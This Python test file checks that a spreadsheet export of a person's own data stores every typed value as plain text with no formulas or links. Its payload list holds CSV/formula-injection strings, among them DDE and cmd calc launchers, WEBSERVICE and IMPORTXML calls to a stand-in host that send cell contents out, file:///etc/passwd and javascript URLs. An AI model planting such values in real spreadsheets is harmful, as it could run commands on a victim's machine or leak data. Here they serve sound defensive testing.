"""One's own data as a table: whatever was typed is a text in a cell, and nothing in the file runs or fetches."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any
from xml.etree import ElementTree as Xml

import xlsxwriter

from bot.papers.takeaway import CELL, PLAIN, workbook

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

PAYLOADS = [
    *(f"{sign}{formula}" for sign in "=+-@" for formula in (
        "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test","见")', 'WEBSERVICE("http://x.test/"&A1)',
        'IMPORTXML("http://x.test","//a")', "INDIRECT(\"A1\")", 'DDE("cmd";"/C calc";"x")', "A1", "'",
    )),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "{=1+1}", "'=1+1", '"=1+1"', ";=1+1", ",=1+1",
    "http://x.test/", "https://x.test/?q=王", "ftp://x.test", "mailto:a@x.test", "internal:Sheet1!A1",
    "external:c:\\x.xlsx#A1", "file:///etc/passwd", "javascript:alert(1)", "\\\\x.test\\share", "_x0041_<b>&amp;</b>",
]  # fmt: skip


def export(*values: str) -> dict[str, Any]:
    rows = [{"id": number, "text": value} for number, value in enumerate(values)]
    return {
        "made": "2026-11-24T10:00:00+08:00",
        "time_zone": "Asia/Shanghai",
        "data": {"person": rows, "letter": []},
        "left_out": [{"field": "person.phone_index", "why": "=1+1"}],
    }


def parts(file: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def cells(file: bytes) -> dict[str, list[list[str]]]:
    """Every cell by sheet, as the file's own text."""
    found = parts(file)
    shared = [
        "".join(part.text or "" for part in one.iter(f"{NS}t"))
        for one in Xml.fromstring(found["xl/sharedStrings.xml"]).iter(f"{NS}si")
    ]
    names = [one.attrib["name"] for one in Xml.fromstring(found["xl/workbook.xml"]).iter(f"{NS}sheet")]
    read = {}
    for number, name in enumerate(names, 1):
        rows = Xml.fromstring(found[f"xl/worksheets/sheet{number}.xml"]).iter(f"{NS}row")
        read[name] = [[shared[int(cell[0].text or "")] for cell in row if len(cell)] for row in rows]
    return read


def faults(file: bytes) -> list[str]:
    """Whatever a reader could run or fetch."""
    found = parts(file)
    whole = "".join(text for name, text in found.items() if name.startswith("xl/worksheets/"))
    run = re.findall(r"<f[ >]|<hyperlink|<dataValidation|<drawing|<legacyDrawing|<oleObject", whole)
    types = {one or "n" for one in re.findall(r'<c r="\w+"(?: s="\d+")?(?: t="(\w+)")?>', whole)}
    fetched = [name for name in found if re.search(r"external|vba|embed|connections|query|_rels/sheet", name)]
    outside = [name for name, text in found.items() if 'TargetMode="External"' in text]
    return [*run, *fetched, *outside, *sorted(types - {"s"})]


def test_sixty_payloads_are_each_a_plain_text() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
    file = workbook(export(*PAYLOADS))
    assert faults(file) == []
    read = [row[1] for row in cells(file)["person"][1:]]
    unescaped = [text.replace("_x005F_", "_").replace("_x000D_", "\r") for text in read]
    assert [text.replace("\r", "\n") for text in unescaped] == [text.replace("\r", "\n") for text in PAYLOADS]


def test_written_as_the_library_would_guess_they_run() -> None:
    """Control of the test above."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("person")
        for row, payload in enumerate(PAYLOADS):
            sheet.write(row, 0, payload)
    assert {"<f>", "<hyperlink"} <= set(faults(out.getvalue()))
    assert PLAIN["strings_to_formulas"] is False


def test_a_subject_without_rows_has_no_sheet_and_what_is_left_out_is_said() -> None:
    found = cells(workbook(export("王䶮")))
    assert list(found) == ["about", "person", "left out"]
    assert found["person"] == [["id", "text"], ["0", "王䶮"]]
    assert found["left out"][1] == ["person.phone_index", "=1+1"]


def test_what_is_longer_than_a_cell_goes_on_below() -> None:
    long = "长" * (CELL + 7)
    found = cells(workbook(export(long, "next")))["person"]
    assert "".join(row[-1] for row in found[1:-1]) == long
    assert found[-1] == ["1", "next"]
